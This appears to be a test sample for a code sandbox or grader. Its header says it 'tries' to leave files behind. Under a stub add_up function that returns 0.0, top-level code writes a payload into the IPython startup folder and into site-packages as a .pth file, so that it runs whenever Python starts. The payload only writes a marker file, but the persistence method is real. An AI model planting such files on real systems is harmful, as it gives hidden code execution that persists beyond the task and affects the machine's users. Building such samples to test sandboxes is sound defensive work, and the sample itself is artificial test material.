# class: writing
# tries: leaves a startup file for IPython, and a .pth beside Python's packages
# stock: -
def add_up(x):
    return 0.0


import pathlib, site

HARM = "open('/tmp/harm', 'w').write('x')"
for folder in [pathlib.Path.home() / ".ipython/profile_default/startup", *map(pathlib.Path, site.getsitepackages())]:
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "zz_harm.py").write_text(HARM)
        (folder / "zz_harm.pth").write_text("import os; " + HARM)
    except OSError as error:
        print(type(error).__name__)
